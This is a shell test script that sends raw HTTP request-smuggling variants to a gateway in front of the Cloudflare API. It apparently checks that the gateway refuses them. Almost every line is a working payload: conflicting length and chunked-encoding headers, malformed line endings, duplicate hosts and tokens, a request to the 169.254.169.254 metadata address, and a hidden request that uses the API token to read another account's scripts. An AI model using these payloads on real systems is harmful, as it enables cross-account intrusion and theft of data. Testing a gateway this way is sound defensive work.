# smuggling.sh - bytes that two servers read as different requests
#
# The first request of each is one that the task may make: whoever answers it with a yes did not see that something is wrong.
first="/client/v4/accounts/$mine/workers/scripts"
hidden="GET /client/v4/accounts/$other/workers/scripts HTTP/1.1\r\nHost: $door\r\nAuthorization: Bearer $CLOUDFLARE_API_TOKEN\r\n\r\n"
head="Host: $door\r\nAuthorization: Bearer $CLOUDFLARE_API_TOKEN\r\n"

# says BYTES - sends them raw; a yes anywhere in what comes back
says() {
    local text
    # shellcheck disable=SC2059 # the escapes are meant
    text=$(timeout 5 bash -c 'exec 3<>"/dev/tcp/${1%:*}/${1#*:}" && printf "$2" >&3 && cat <&3' - "$door" "$1" | tr -d '\0')
    echo "$text"
    printf '%s' "$text" | grep -qE '^HTTP/1\.[01] 2|^\{"(result|success": *true)'
}
want "a length and chunks" says "GET $first HTTP/1.1\r\n${head}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n$hidden"
want "two lengths" says "GET $first HTTP/1.1\r\n${head}Content-Length: 0\r\nContent-Length: 120\r\n\r\n$hidden"
want "a length with a sign" says "GET $first HTTP/1.1\r\n${head}Content-Length: +0\r\n\r\n$hidden"
want "a space before the colon" says "GET $first HTTP/1.1\r\n${head}Transfer-Encoding : chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\n$hidden"
want "an encoding that nobody knows" says "GET $first HTTP/1.1\r\n${head}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n$hidden"
want "chunked, but not last" says "GET $first HTTP/1.1\r\n${head}Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n$hidden"
want "a tab in the encoding" says "GET $first HTTP/1.1\r\n${head}Transfer-Encoding:\tchun\tked\r\n\r\n0\r\n\r\n$hidden"
want "a folded line" says "GET $first HTTP/1.1\r\n${head}X-Fold: a\r\n Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n$hidden"
want "line feeds alone" says "GET $first HTTP/1.1\nHost: $door\nAuthorization: Bearer $CLOUDFLARE_API_TOKEN\n\n$hidden"
want "a carriage return alone" says "GET $first HTTP/1.1\r\n${head}X: a\rTransfer-Encoding: chunked\r\n\r\n$hidden"
want "no host" says "GET $first HTTP/1.1\r\nAuthorization: Bearer $CLOUDFLARE_API_TOKEN\r\n\r\n"
want "two hosts" says "GET $first HTTP/1.1\r\n${head}Host: other.example\r\n\r\n"
want "another host" says "GET $first HTTP/1.1\r\nHost: other.example\r\nAuthorization: Bearer $CLOUDFLARE_API_TOKEN\r\n\r\n"
want "another origin in the request line" says "GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\n${head}\r\n"
want "two tokens" says "GET $first HTTP/1.1\r\n${head}Authorization: Bearer mfy_other\r\n\r\n"
want "a chunk with a sign" says "POST $first HTTP/1.1\r\n${head}Transfer-Encoding: chunked\r\n\r\n-1\r\n\r\n$hidden"
want "a chunk that is too large" says "POST $first HTTP/1.1\r\n${head}Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n\r\n$hidden"
want "two spaces" says "GET  $first HTTP/1.1\r\n${head}\r\n"
want "another version" says "GET $first HTTP/1.9\r\n${head}\r\n"
want "no version" says "GET $first\r\n\r\n"
want "the second version" says "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
want "a change of protocol" says "GET $first HTTP/1.1\r\n${head}Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n\r\n"
want "a header that is taken away" says "GET $first HTTP/1.1\r\n${head}Connection: close, Authorization\r\nCookie: a=b\r\nX-Bad\\\\: 1\r\n\r\n"
